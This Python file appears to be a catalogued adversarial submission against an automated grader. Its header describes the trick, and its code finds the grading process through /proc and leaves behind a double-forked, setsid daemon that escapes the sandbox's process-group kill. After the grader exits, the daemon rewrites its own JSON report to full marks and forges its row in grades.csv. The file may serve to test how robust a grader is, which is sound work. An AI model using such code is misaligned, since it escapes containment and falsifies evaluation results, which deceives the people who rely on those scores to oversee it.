# trick: leave a daemon behind (double fork and os.setsid, so the sandbox's process-group kill
#        misses it) that waits for the grader to exit, then gives its own report full marks and
#        rewrites its row of grades.csv, after the grader has written both for the last time
# targets: score, its_report, processes
# comm: forge_daemon
# The daemon names itself (/proc/self/comm) so that a leftover one is attributable.
import json
import os
import sys
import time

_MARK = "xent-forger-after-exit"


def _grader():
    """(argv, cwd, pid) of the `grade` command: this process's, an ancestor's or anyone's."""
    def argv_of(pid):
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as f:
                return [a.decode(errors="replace") for a in f.read().split(b"\0") if a]
        except OSError:
            return []

    def parent(pid):
        try:
            with open(f"/proc/{pid}/stat") as f:
                return int(f.read().rsplit(")", 1)[1].split()[1])
        except (OSError, ValueError, IndexError):
            return 0

    def is_grade(argv):
        return "grade" in argv and "--out" in argv

    pids, pid = [], os.getpid()
    while pid > 1 and len(pids) < 20:
        pids.append(pid)
        pid = parent(pid)
    try:
        pids += sorted(int(n) for n in os.listdir("/proc") if n.isdigit())
    except OSError:
        pass
    if is_grade(sys.argv):
        pids.insert(0, None)
    for pid in pids:
        argv = sys.argv if pid is None else argv_of(pid)
        if is_grade(argv):
            pid = pid or os.getpid()
            while is_grade(argv_of(parent(pid))):  # climb to the top of the grader's processes
                pid = parent(pid)
            try:
                cwd = os.readlink(f"/proc/{pid}/cwd")
            except OSError:
                cwd = os.getcwd()
            return argv, cwd, pid
    return None


def _submissions_and_out():
    found = _grader()
    if found is None:
        return None, None
    argv, cwd, _pid = found
    rest = [a for a in argv[argv.index("grade") + 1:] if not a.startswith("-")]
    out = argv[argv.index("--out") + 1]
    rest = [a for a in rest if a != out]
    return (os.path.join(cwd, rest[0]) if rest else None), os.path.join(cwd, out)


def _own_id(folder):
    for name in os.listdir(folder):
        try:
            with open(os.path.join(folder, name), encoding="utf-8", errors="replace") as f:
                if _MARK in f.read():
                    return os.path.splitext(name)[0]
        except OSError:
            continue
    return None


def _forge(out, me):
    path = os.path.join(out, "reports", me + ".json")
    with open(path, encoding="utf-8") as f:
        record = json.load(f)
    for check in record["checks"]:
        check.update(points=check["max_points"], status="passed", message="Passed.",
                     counterexample=None)
    with open(path, "w", encoding="utf-8") as f:
        json.dump(record, f, indent=2)
    csv = os.path.join(out, "grades.csv")
    with open(csv, encoding="utf-8") as f:
        rows = f.read().splitlines()
    rows = [",".join([me] + ["10"] * (len(r.split(",")) - 3) + ["60", "60"])
            if r.startswith(me + ",") else r for r in rows]
    with open(csv, "w", encoding="utf-8") as f:
        f.write("\n".join(rows) + "\n")


def _daemon():
    found = _grader()
    subs, out = _submissions_and_out()
    if found is None or subs is None or out is None:
        return
    grader, me = found[2], _own_id(subs)
    if me is None or os.fork() != 0:
        return
    try:  # first child: a new session, then fork again so that nobody waits for the daemon
        os.setsid()
        if os.fork() != 0:
            os._exit(0)
        with open("/proc/self/comm", "w") as f:
            f.write("forge_daemon")
        deadline = time.monotonic() + 600
        while time.monotonic() < deadline:
            if not os.path.exists(f"/proc/{grader}"):
                _forge(out, me)
                break
            time.sleep(0.02)
    finally:
        os._exit(0)


class _Go:
    _daemon()
